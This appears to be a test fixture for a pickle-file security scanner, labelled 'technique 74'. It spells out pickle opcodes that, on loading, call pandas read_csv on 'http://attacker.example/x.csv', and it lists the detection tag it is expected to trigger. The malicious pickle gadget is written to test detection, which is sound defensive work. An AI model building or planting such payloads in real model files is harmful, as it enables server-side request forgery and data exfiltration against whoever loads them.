#! technique 74 pandas read_csv on an attacker URL (exfiltration/SSRF)
#! expect PICKLE-GLOBAL-IMPORT read_csv
# modelscan #338: third-party reader gadget.
PROTO 4
SHORT_BINUNICODE "pandas.io.parsers.readers"
SHORT_BINUNICODE "read_csv"
STACK_GLOBAL
SHORT_BINUNICODE "http://attacker.example/x.csv"
TUPLE1
REDUCE
STOP
